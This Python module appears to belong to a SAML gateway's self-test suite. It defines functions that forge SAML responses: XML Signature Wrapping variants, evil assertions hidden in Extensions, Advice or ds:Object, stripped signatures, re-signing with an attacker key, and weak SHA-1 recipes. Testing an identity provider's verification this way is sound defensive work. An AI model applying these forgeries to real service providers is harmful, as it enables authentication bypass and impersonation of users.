"""Attacks on the signature: XML Signature Wrapping (as SAML Raider names the shapes), an
Assertion hidden where a careless reader finds it, and signatures removed, replaced or
made with weak or unusual recipes. Each is ``(forge, valid_root) -> forged message``.
"""

from __future__ import annotations

import copy
import functools
from collections.abc import Callable
from typing import Any

from lxml import etree
from onelogin.saml2.constants import OneLogin_Saml2_Constants as C

from gateway.keys import generate_self_signed
from gateway.selftest.forge import (
    DS,
    NS,
    SAML,
    SAMLP,
    Forge,
    assertion_of,
    evil_copy,
    make_evil,
    signature_of,
    unsign,
)


def xsw_response(inside_signature: bool) -> Callable[[Forge, Any], Any]:
    """XSW1/XSW2: evil Response; the signed original (its signature removed) is moved into
    (1) or before (2) the Response signature, which still references the original ID."""
    def apply(forge: Forge, root: Any) -> Any:
        original = unsign(copy.deepcopy(root))
        make_evil(root)
        root.set("ID", "_evil-response")
        signature = signature_of(root)
        if inside_signature:
            signature.append(original)
        else:
            signature.addprevious(original)
        return root
    return apply


def xsw3(forge: Forge, root: Any) -> Any:
    assertion = assertion_of(root)
    assertion.addprevious(evil_copy(assertion))
    return root


def xsw4(forge: Forge, root: Any) -> Any:
    assertion = assertion_of(root)
    evil = evil_copy(assertion)
    root.append(evil)
    evil.append(assertion)
    return root


def xsw5(forge: Forge, root: Any) -> Any:
    assertion = assertion_of(root)
    clean = unsign(copy.deepcopy(assertion))
    make_evil(assertion).set("ID", "_evil-assertion")
    root.append(clean)
    return root


def xsw6(forge: Forge, root: Any) -> Any:
    assertion = assertion_of(root)
    clean = unsign(copy.deepcopy(assertion))
    make_evil(assertion).set("ID", "_evil-assertion")
    signature_of(assertion).append(clean)
    return root


def xsw7(forge: Forge, root: Any) -> Any:
    assertion = assertion_of(root)
    extensions = etree.Element("Extensions")  # no namespace, as SAML Raider makes it
    assertion.addprevious(extensions)
    extensions.append(evil_copy(assertion, new_id=None))
    return root


def xsw8(forge: Forge, root: Any) -> Any:
    assertion = assertion_of(root)
    clean = unsign(copy.deepcopy(assertion))
    make_evil(assertion)
    holder = etree.SubElement(signature_of(assertion), "Object")  # no namespace
    holder.append(clean)
    return root


def evil_in_extensions(forge: Forge, root: Any) -> Any:
    """Schema-valid: samlp:Extensions (any foreign namespace allowed) carries a twin."""
    assertion = assertion_of(root)
    extensions = etree.Element(SAMLP + "Extensions")
    root.find("saml:Issuer", NS).addnext(extensions)
    extensions.append(evil_copy(assertion))
    return root


def genuine_in_advice(forge: Forge, root: Any) -> Any:
    """Schema-valid: an evil Assertion whose saml:Advice holds the genuine signed one."""
    assertion = assertion_of(root)
    evil = evil_copy(assertion)
    advice = etree.Element(SAML + "Advice")
    evil.find("saml:Conditions", NS).addnext(advice)
    assertion.addprevious(evil)
    advice.append(assertion)
    return root


def evil_in_ds_object(forge: Forge, root: Any) -> Any:
    """Schema-valid: a ds:Object in the genuine Assertion's signature carries a twin
    (outside the enveloped signature's digest, so the signature still verifies)."""
    assertion = assertion_of(root)
    holder = etree.SubElement(signature_of(assertion), DS + "Object")
    holder.append(evil_copy(assertion))
    return root


def strip_assertion_signature(forge: Forge, root: Any) -> Any:
    unsign(assertion_of(root))
    return root


def strip_all_signatures(forge: Forge, root: Any) -> Any:
    unsign(assertion_of(root))
    unsign(root)
    return make_evil(root)


def attacker_key_in_keyinfo(forge: Forge, root: Any) -> Any:
    """Evil Assertion and Response re-signed with the attacker's key; add_sign puts the
    attacker's certificate in KeyInfo, hoping the SP trusts what the message brings."""
    key, cert = _attacker()
    forge.resign_assertion(root, make_evil, key_pem=key, cert_pem=cert)
    return forge.sign(root, key_pem=key, cert_pem=cert)


@functools.cache
def _attacker() -> tuple[str, str]:
    """One attacker key pair per process (RSA key generation takes a moment)."""
    return generate_self_signed("attacker")


def rsa_sha1(forge: Forge, root: Any) -> Any:
    return forge.resign_assertion(root, sign_algorithm=C.RSA_SHA1, digest_algorithm=C.SHA256)


def sha1_digest(forge: Forge, root: Any) -> Any:
    return forge.resign_assertion(root, sign_algorithm=C.RSA_SHA256, digest_algorithm=C.SHA1)


def signed_with(**recipe: Any) -> Callable[[Forge, Any], Any]:
    def apply(forge: Forge, root: Any) -> Any:
        assertion = unsign(assertion_of(root))
        forge.sign_with(assertion, **recipe)
        return root
    return apply


def duplicate_signed_info(forge: Forge, root: Any) -> Any:
    signature = signature_of(assertion_of(root))
    evil_info = copy.deepcopy(signature.find("ds:SignedInfo", NS))
    signature.find("ds:SignedInfo", NS).addnext(evil_info)
    return root
